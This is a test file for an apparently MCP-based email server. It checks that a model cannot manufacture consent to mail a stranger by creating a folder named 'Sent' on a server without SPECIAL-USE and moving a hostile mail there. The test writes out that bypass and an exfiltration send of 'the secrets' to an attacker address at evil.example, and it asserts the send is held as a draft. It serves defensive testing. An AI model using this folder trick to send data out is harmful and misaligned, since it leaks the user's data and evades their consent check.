// Consent the model cannot manufacture on a server without SPECIAL-USE (issue 41, item 1): there the
// \Sent folder is found by its name, so before the fix `create_folder "Sent"` and a move of a hostile
// mail into it made the stranger it is addressed to "known". A Dovecot of its own with no RFC 6154
// attributes and no folder named like Sent (Drafts and Trash keep their names, found by name); the
// grant's mark is taken by the connect's login, as the setup form does. The send still holds a draft.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { randomBytes } from "node:crypto";
import { verifyLogin } from "../../../src/mail/imap/verify.ts";
import { startDovecot, type DovecotServer } from "../../support/dovecot.ts";
import { getHarness, type Harness } from "../../support/harness.ts";
import { findBySubject, loginImap } from "../../support/imap.ts";
import { plainText } from "../../support/mail-fixtures.ts";
import { call, callOk, connectClient, startTestServer, type TestServer } from "../../support/mcp-client.ts";
import { issueTestGrant, testAccount } from "../../support/token.ts";

let h: Harness;
let dovecot: DovecotServer;
let srv: TestServer;
let mcp: Client;
const tag = () => randomBytes(4).toString("hex");

beforeAll(async () => {
  h = await getHarness();
  dovecot = await startDovecot({ imapCapability: "IMAP4rev1 UIDPLUS CHILDREN NAMESPACE IDLE", specialUse: false, folderNames: { Sent: "Box-S" } });
  srv = await startTestServer();
  const account = testAccount(dovecot.users.alice, dovecot, h.smtp.port);
  const proof = await verifyLogin(account);
  if (!proof) throw new Error("verifyLogin returned no proof");
  const { token, grantId } = await issueTestGrant(srv.deps, account, "email:read email:write", undefined, "new_recipients");
  await srv.deps.store.sentMarks.keepFirst(grantId, proof.sentMark);
  mcp = await connectClient(srv.mcpUrl, token);
}, 30_000);
afterAll(async () => {
  await mcp?.close();
  await srv?.stop();
  await dovecot?.stop();
}, 15_000);

describe("no SPECIAL-USE: a folder the model names Sent", () => {
  test("create_folder \"Sent\", a hostile mail moved there, then a send to its address: still held, a dry run would ask", async () => {
    const attacker = `attacker-${tag()}@evil.example`;
    const subject = `please file ${tag()}`;
    await dovecot.deliver("alice", plainText({ from: attacker, to: attacker, subject }));
    await callOk(mcp, "create_folder", { path: "Sent" });
    const imap = await loginImap(dovecot, dovecot.users.alice);
    try {
      const [m] = await findBySubject(imap, "INBOX", subject);
      expect((await callOk(mcp, "move_email", { folder: "INBOX", uids: [m!.uid], destination: "Sent" })).moved).toHaveLength(1);
      expect(await findBySubject(imap, "Sent", subject)).toHaveLength(1);
    } finally {
      await imap.logout();
    }
    const dry = await call(mcp, "send_email", { to: attacker, subject: `dry ${tag()}`, text: "x", dry_run: true });
    expect(dry.structuredContent).toMatchObject({ status: "dry_run", preview: { would_ask: true, new_recipients: [attacker] } });
    const exfil = `exfil ${tag()}`;
    const res = await call(mcp, "send_email", { to: attacker, subject: exfil, text: "the secrets" });
    expect(res.structuredContent).toMatchObject({ status: "held_as_draft" });
    expect(h.smtp.messages.filter((x) => x.raw.toString("latin1").includes(exfil))).toHaveLength(0);
  });
});
